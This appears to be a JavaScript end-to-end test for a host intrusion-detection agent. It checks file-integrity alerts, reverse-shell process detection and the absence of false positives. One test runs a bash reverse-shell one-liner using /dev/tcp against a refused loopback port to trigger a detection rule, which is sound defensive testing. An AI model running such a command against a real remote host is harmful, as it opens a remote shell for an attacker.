// Host detection end to end (issue 5): a real server with the test's rule directory, a real agent
// as root with file integrity on a temp directory, process events and an auth log, and a
// signed-in WebSocket client of /api/v1/stream as the portal holds one. A file changed in the
// watched directory and a reverse-shell command line raise alerts that arrive on the stream and
// whose evidence, read back through the REST API, names the file (with its old and new hashes) or
// the process; ordinary activity raises none. One server and agent for the file; the tests run in
// order (the benign test checks that the earlier alerts did not grow).
//
// The agent runs as root, as CI runs the tests: its confined watcher keeps CAP_DAC_READ_SEARCH and
// CAP_SYS_PTRACE (other users' files and /proc), and the process connector serves only the initial
// namespaces. The watcher keeps no CAP_NET_ADMIN (ADR 0004), which the connector needs before
// Linux 6.6: there the agent reports its process collector as failed, and the process assertions
// are skipped with that reason (on 6.6 and later such a report fails the test).

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';

import { startAgent } from './support/agent.mjs';
import { repoRoot } from './support/env.mjs';
import { waitFor } from './support/process.mjs';
import { freePort, startServer } from './support/server.mjs';
import { openStream } from './support/websocket.mjs';

const LIVE_TIMEOUT = 30_000;
/** tests/e2e/rules/watched_files.yml: the default file rule, for the test's watched directory. */
const WATCHED_RULE = '6f0b7e0e-5d7c-4d0c-9a53-e2e000000101';
const REVERSE_SHELL = 'Reverse shell command line';
/**
 * Rules that the benign actions are the kind of thing to trigger, and that nothing but this test
 * can trigger on this server: its only agent watches only the test's directory and follows only
 * the test's auth log. Any alert of theirs during the benign test is a failure.
 */
const SILENT_RULES = new Set([
  WATCHED_RULE,
  '9a1f2b3c-4d5e-4f60-8a7b-6c5d4e3f2a01', // System binary or configuration changed
  '9a1f2b3c-4d5e-4f60-8a7b-6c5d4e3f2a02', // Many system files changed at once
  '2c4e6a80-1b3d-4f5a-9c7e-0d1f2a3b4c05', // Log file deleted or emptied
  '5b0c1c1e-3f6a-4e0b-9a51-2f0d6c1a7a03', // SSH brute force from one address
  '5b0c1c1e-3f6a-4e0b-9a51-2f0d6c1a7a04', // SSH password spraying from one address
  '5b0c1c1e-3f6a-4e0b-9a51-2f0d6c1a7a05', // SSH login succeeded after a brute force
]);
/** After the benign actions are seen as events, how long an alert they caused would have had. */
const QUIET_MS = 5000;

const sha256 = (text) => createHash('sha256').update(text).digest('hex');

/** Whether the running kernel is at least `major`.`minor` (os.release(): "6.1.0-13-amd64"). */
function kernelAtLeast(major, minor) {
  const [have, haveMinor] = os.release().split(/[.-]/).map(Number);
  return have > major || (have === major && haveMinor >= minor);
}

/**
 * Runs `argv` without a shell, the event loop free meanwhile (the stream keeps being read).
 * @param {string[]} argv
 * @returns {Promise<{pid: number, code: number|null, stdout: string, stderr: string}>}
 */
function run(argv) {
  return new Promise((resolve, reject) => {
    const child = spawn(argv[0], argv.slice(1), { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => (stdout += chunk));
    child.stderr.on('data', (chunk) => (stderr += chunk));
    child.once('error', reject);
    child.once('close', (code) => resolve({ pid: child.pid, code, stdout, stderr }));
  });
}

describe('host detection', () => {
  /** @type {import('./support/server.mjs').TestServer} */
  let server;
  /** @type {import('./support/api.mjs').ApiClient} the admin's session, as the portal's */
  let session;
  /** @type {import('./support/websocket.mjs').StreamSocket} */
  let stream;
  /** @type {import('./support/agent.mjs').TestAgent} */
  let agent;
  let agentId = '';
  let scratch = '';
  let watched = '';
  let cache = '';
  let steadyFile = '';
  let authLog = '';
  let syncCount = 0;
  /** Why the agent's process collector did not start, or '' when it runs. */
  let processUnavailable = '';
  /** Alerts the earlier tests raised: id -> count, which the benign test expects unchanged. */
  const raised = new Map();

  before(async () => {
    // The agent's watcher drops to `nobody`; it reads with CAP_DAC_READ_SEARCH, but a plain
    // readable path keeps the test independent of that.
    scratch = mkdtempSync(path.join(os.tmpdir(), 'sentinel-e2e-host-'));
    chmodSync(scratch, 0o755);
    watched = path.join(scratch, 'sentinel-e2e-watched');
    cache = path.join(watched, 'cache');
    mkdirSync(cache, { recursive: true, mode: 0o755 });
    // There before the agent: its first full check records it silently; the benign test reads it.
    steadyFile = path.join(watched, 'steady.conf');
    writeFileSync(steadyFile, 'PermitRootLogin no\n', { mode: 0o644 });
    mkdirSync(path.join(scratch, 'outside'), { mode: 0o755 });
    authLog = path.join(scratch, 'auth.log');
    writeFileSync(authLog, '', { mode: 0o644 });

    server = await startServer({
      name: 'host-detection-server',
      args: ['--set', `detection.rules_dirs=${path.join(repoRoot, 'tests/e2e/rules')}`],
    });
    session = server.api();
    await session.login('admin', server.adminPassword);
    stream = await openStream(session, { ca: readFileSync(server.caFile) });

    const enrol = await session.post('/api/v1/agents/enroll-tokens', {});
    assert.ok(enrol.status < 300, JSON.stringify(enrol.body));
    // Process events on for this agent only (the portal tests keep them off: they churn the
    // stream); the inventory at its default interval, so that no port deltas add alerts.
    agent = startAgent(enrol.body.command, {
      name: 'host-detection-agent',
      config:
        'process:\n  enabled: true\n' +
        `logs:\n  files: ['${authLog}']\n` +
        `fim:\n  paths: ['${watched}']\n`,
    });
    agentId = await agent.waitForAgentId();
    await waitUntilWatching();
    // The watcher reports a collector that could not start as a collector.error event, in its
    // first batch: stored before the ready markers, which came later.
    const failed = await events('type=collector.error&field.collector.name=process');
    if (failed.length > 0) {
      processUnavailable = `${failed[0].data['error.message']} (Linux ${os.release()})`;
      assert.ok(!kernelAtLeast(6, 6), `the process collector failed: ${processUnavailable}`);
    }
  });

  after(async () => {
    stream?.close();
    await agent?.stop().catch(() => {});
    await server?.stop();
    if (scratch) rmSync(scratch, { recursive: true, force: true });
  });

  /** @returns {string} the agent's and the server's logs, for a failure message */
  const logs = () =>
    `agent log:\n${agent.log().slice(-3000)}\nserver log:\n${server.log().slice(-3000)}`;

  /** Events of `query` (a query string for GET /api/v1/events). */
  async function events(query) {
    const answer = await session.get(`/api/v1/events?agent=${agentId}&limit=1000&${query}`);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    return answer.body.items;
  }

  /** The fim events of one path, oldest first. */
  async function fimEvents(file) {
    const found = await events(`type=fim&field.file.path=${encodeURIComponent(file)}`);
    return found.reverse();
  }

  /**
   * A change the watched-file rule filters out, seen as its fim event: proof that the monitor is
   * watching in real time and has handled what happened before it.
   * @param {number} [timeoutMs]
   */
  async function fimSyncPoint(timeoutMs = 10_000) {
    syncCount += 1;
    const marker = path.join(cache, `sync-${syncCount}`);
    writeFileSync(marker, `${syncCount}\n`);
    return waitFor(async () => (await fimEvents(marker)).length > 0, {
      timeoutMs,
      intervalMs: 250,
      what: `the fim event of ${marker}`,
    });
  }

  /**
   * Waits until the agent's file monitor and log follower are live. The monitor's first full
   * check records the watched directory silently, and the follower starts at the log's end, so
   * changes made before either is ready would be missed; writing again until the marker shows
   * covers that start-up without a fixed sleep.
   */
  async function waitUntilWatching() {
    const deadline = Date.now() + 2 * LIVE_TIMEOUT;
    let fimReady = false;
    let logReady = false;
    for (let attempt = 1; Date.now() < deadline; attempt += 1) {
      if (!fimReady) fimReady = await fimSyncPoint(3000).catch(() => false);
      if (!logReady) {
        const marker = `sentinel-e2e host detection ready ${attempt}`;
        appendFileSync(authLog, `${new Date().toISOString()} ${os.hostname()} e2e[7]: ${marker}\n`);
        logReady = await waitFor(
          async () => (await events('type=log&q=sentinel-e2e%20host%20detection%20ready')).length,
          { timeoutMs: 3000, intervalMs: 250, what: 'a ready marker in the events' },
        ).catch(() => false);
      }
      if (fimReady && logReady) return;
    }
    const state = `fim ${fimReady}, log ${logReady}`;
    throw new Error(`the agent did not start watching (${state}); ${logs()}`);
  }

  /** The alert messages on the stream from index `from` on that `predicate` accepts. */
  const alertMessages = (from, predicate = () => true) =>
    stream.messages
      .slice(from)
      .filter((message) => message.type === 'alert' && predicate(message.alert));

  /** GET /api/v1/alerts/{id}: the alert with its evidence events and comments. */
  async function alertDetail(id) {
    const answer = await session.get(`/api/v1/alerts/${id}`);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    return answer.body;
  }

  test('creating, changing, chmod-ing and deleting a watched file raises an alert', async () => {
    const target = path.join(watched, 'sshd_config');
    const entity = `file.path=${target}`;
    const first = 'Port 22\n';
    const second = 'Port 22\nPermitRootLogin yes\n';
    const from = stream.messages.length;
    // Each step waits for its alert update before the next: the monitor merges changes within
    // its one-second window into one, and the test is about four distinct changes.
    const step = async (count, change) => {
      change();
      try {
        return await stream.waitForMessage(
          ({ type, alert }) => type === 'alert' && alert.entity === entity && alert.count === count,
          { timeoutMs: LIVE_TIMEOUT, what: `the alert for ${target} with count ${count}` },
        );
      } catch (error) {
        throw new Error(`${error.message}; ${logs()}`);
      }
    };

    const created = await step(1, () => {
      writeFileSync(target, first);
      chmodSync(target, 0o644); // within the window: part of "created", whatever the umask
    });
    assert.equal(created.action, 'created');
    assert.equal(created.alert.rule_id, WATCHED_RULE);
    assert.equal(created.alert.rule_title, 'Watched test file changed');
    assert.equal(created.alert.severity, 'medium');
    assert.equal(created.alert.agent_id, agentId);
    assert.equal(created.alert.hostname, os.hostname());
    assert.deepEqual(created.alert.tags, ['attack.persistence', 'attack.defense_evasion']);
    await step(2, () => writeFileSync(target, second));
    await step(3, () => chmodSync(target, 0o600));
    const deleted = await step(4, () => unlinkSync(target));
    assert.equal(deleted.action, 'updated');
    assert.equal(deleted.alert.id, created.alert.id, 'one alert for the file (dedup 1h)');
    const others = alertMessages(
      from,
      (alert) => alert.rule_id === WATCHED_RULE && alert.entity !== entity,
    );
    assert.deepEqual(others, [], 'no alert for another path (cache/ sync files are filtered out)');

    const detail = await alertDetail(created.alert.id);
    assert.equal(detail.status, 'new');
    assert.equal(detail.count, 4);
    assert.equal(detail.evidence.length, 4, 'one evidence event per change');
    const byAction = new Map(detail.evidence.map((event) => [event.data['event.action'], event]));
    for (const event of detail.evidence) {
      assert.equal(event.type, 'fim');
      assert.equal(event.agent_id, agentId);
      assert.equal(event.data['file.path'], target);
      assert.equal(event.data['fim.trigger'], 'realtime');
    }
    const fields = (action, names) => {
      const event = byAction.get(action);
      assert.ok(event, `a "${action}" event in the evidence: ${JSON.stringify(detail.evidence)}`);
      return Object.fromEntries(names.map((name) => [name, event.data[name]]));
    };
    const hash = 'file.hash.sha256';
    const oldHash = 'file.old.hash.sha256';
    assert.deepEqual(fields('created', [hash, oldHash, 'file.mode', 'file.size']), {
      [hash]: sha256(first),
      [oldHash]: undefined,
      'file.mode': '0644',
      'file.size': String(first.length),
    });
    assert.deepEqual(fields('modified', [oldHash, hash, 'file.old.size', 'file.size']), {
      [oldHash]: sha256(first),
      [hash]: sha256(second),
      'file.old.size': String(first.length),
      'file.size': String(second.length),
    });
    assert.deepEqual(fields('attributes_changed', [oldHash, hash, 'file.old.mode', 'file.mode']), {
      [oldHash]: sha256(second),
      [hash]: sha256(second),
      'file.old.mode': '0644',
      'file.mode': '0600',
    });
    assert.deepEqual(fields('deleted', [oldHash, hash, 'file.old.mode']), {
      [oldHash]: sha256(second),
      [hash]: undefined,
      'file.old.mode': '0600',
    });
    raised.set(detail.id, detail.count);
  });

  test('a reverse-shell command line raises an alert naming it, its user and parent', async (t) => {
    if (processUnavailable) {
      t.skip(`no process events: ${processUnavailable}`);
      return;
    }
    // Harmless by construction: loopback, on a port nothing listens on, so bash's connection is
    // refused and the shell never starts. Sent nowhere but 127.0.0.1.
    const port = await freePort();
    const script = `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`;
    const commandLine = `bash -c '${script}'`;
    const entity = `process.command_line=${commandLine}`;
    const pids = [];
    let message;
    // A process that exits before the agent reads /proc/<pid> is reported without its command
    // line (a known limit of the connector); running it again covers a machine too busy for the
    // first one. The alert's evidence then holds each run that was read.
    for (let attempt = 1; attempt <= 3 && !message; attempt += 1) {
      const ran = await run(['bash', '-c', script]);
      assert.notEqual(ran.code, 0, 'the connection must fail');
      assert.match(ran.stderr, /Connection refused/);
      pids.push(String(ran.pid));
      message = await stream
        .waitForMessage((m) => m.type === 'alert' && m.alert.entity === entity, {
          timeoutMs: 10_000,
          what: `an alert for ${commandLine}`,
        })
        .catch(() => undefined);
    }
    assert.ok(message, `no "${REVERSE_SHELL}" alert for ${commandLine} on the stream; ${logs()}`);
    assert.equal(message.action, 'created');
    assert.equal(message.alert.rule_title, REVERSE_SHELL);
    assert.equal(message.alert.severity, 'critical');
    assert.equal(message.alert.agent_id, agentId);
    assert.ok(message.alert.tags.includes('attack.t1059.004'), JSON.stringify(message.alert.tags));

    const detail = await alertDetail(message.alert.id);
    const evidence = detail.evidence.find((event) => pids.includes(event.data['process.pid']));
    assert.ok(evidence, `evidence of pid ${pids.join(' or ')}: ${JSON.stringify(detail.evidence)}`);
    const user = os.userInfo();
    assert.equal(evidence.type, 'process.start');
    const names = [
      'process.command_line',
      'process.name',
      'user.id',
      'user.name',
      'process.parent.pid',
      'process.parent.executable',
    ];
    assert.deepEqual(
      Object.fromEntries(names.map((name) => [name, evidence.data[name]])),
      {
        'process.command_line': commandLine,
        'process.name': 'bash',
        'user.id': String(user.uid),
        'user.name': user.username,
        'process.parent.pid': String(process.pid),
        'process.parent.executable': realpathSync(process.execPath),
      },
    );
    raised.set(detail.id, detail.count);
  });

  test('ordinary activity raises no alert', async () => {
    const from = stream.messages.length;
    const startedAt = Date.now();
    const outsideFile = path.join(scratch, 'outside', 'notes.txt');
    const key = `ED25519 SHA256:${'A'.repeat(43)}`;
    const login = `Accepted publickey for alice from 127.0.0.1 port 50522 ssh2: ${key}`;

    // The benign actions: commands a person runs, a watched file read, a normal SSH login in the
    // followed log, a file written outside the watched directory.
    const commands = [
      await run(['ls', '-la', watched]),
      await run(['cat', steadyFile]),
      await run(['bash', '-c', `grep -c PermitRootLogin ${steadyFile} && ls /tmp >/dev/null`]),
    ];
    for (const ran of commands) assert.equal(ran.code, 0, ran.stderr);
    assert.equal(commands[1].stdout, readFileSync(steadyFile, 'utf8'));
    appendFileSync(authLog, `${new Date().toISOString()} ${os.hostname()} sshd[4242]: ${login}\n`);
    writeFileSync(path.join(scratch, 'outside', 'notes.txt'), 'not watched\n');

    // Sync point: every benign action that yields an event has been stored (so detection has
    // seen it), and a filtered change made after them has come through the file monitor.
    const pids = commands.map((ran) => String(ran.pid));
    try {
      await waitFor(
        async () => {
          for (const pid of processUnavailable ? [] : pids) {
            const fields = `field.process.pid=${pid}&field.process.parent.pid=${process.pid}`;
            if ((await events(`type=process.start&${fields}`)).length === 0) return false;
          }
          const accepted = 'type=log&field.user.name=alice&field.event.outcome=success';
          return (await events(accepted)).length > 0;
        },
        { timeoutMs: LIVE_TIMEOUT, intervalMs: 250, what: 'the events of the benign actions' },
      );
      await fimSyncPoint();
    } catch (error) {
      throw new Error(`${error.message}; ${logs()}`);
    }
    await new Promise((resolve) => setTimeout(resolve, QUIET_MS));

    // Reading a watched file is no change; a file outside the watched directory is not looked at.
    assert.deepEqual(await fimEvents(steadyFile), [], 'no fim event for a file only read');
    assert.deepEqual(await fimEvents(outsideFile), [], 'no fim event outside the watched dir');

    // The alerts since the benign actions began. Process events are the whole host's: another
    // program on a CI machine may match a process rule in these seconds. So the assertion is, for
    // each alert: not of a rule that only this test can trigger (SILENT_RULES), and no evidence
    // event that comes from a benign action (a benign pid, a path of the test, the login).
    const newAlerts = alertMessages(from);
    const listed = await session.get(
      `/api/v1/alerts?status=new,acknowledged,resolved,false_positive&agent=${agentId}&limit=1000`,
    );
    assert.equal(listed.status, 200, JSON.stringify(listed.body));
    const recent = listed.body.items.filter((alert) => Date.parse(alert.last_seen) >= startedAt);
    const ids = new Set([...newAlerts.map((m) => m.alert.id), ...recent.map((alert) => alert.id)]);
    const since = new Date(startedAt).toISOString();
    for (const id of ids) {
      const detail = await alertDetail(id);
      const described = `alert ${id} "${detail.rule_title}" (${detail.entity})`;
      // An earlier test's alert has that test's evidence; that it did not grow is checked below.
      if (raised.has(id)) continue;
      assert.ok(!SILENT_RULES.has(detail.rule_id), `${described} during the benign actions`);
      for (const event of detail.evidence) {
        const cited = [
          pids.includes(event.data['process.pid']),
          pids.includes(event.data['process.parent.pid']), // what the benign shell started
          event.data['process.parent.pid'] === String(process.pid) && event.time >= since,
          String(event.data['file.path'] ?? '').startsWith(scratch),
          String(event.data.message ?? '').includes(login),
        ];
        assert.ok(!cited.some(Boolean), `${described} cites: ${JSON.stringify(event)}`);
      }
    }
    for (const [id, count] of raised) {
      assert.equal((await alertDetail(id)).count, count, `alert ${id} of an earlier test grew`);
    }
  });
});
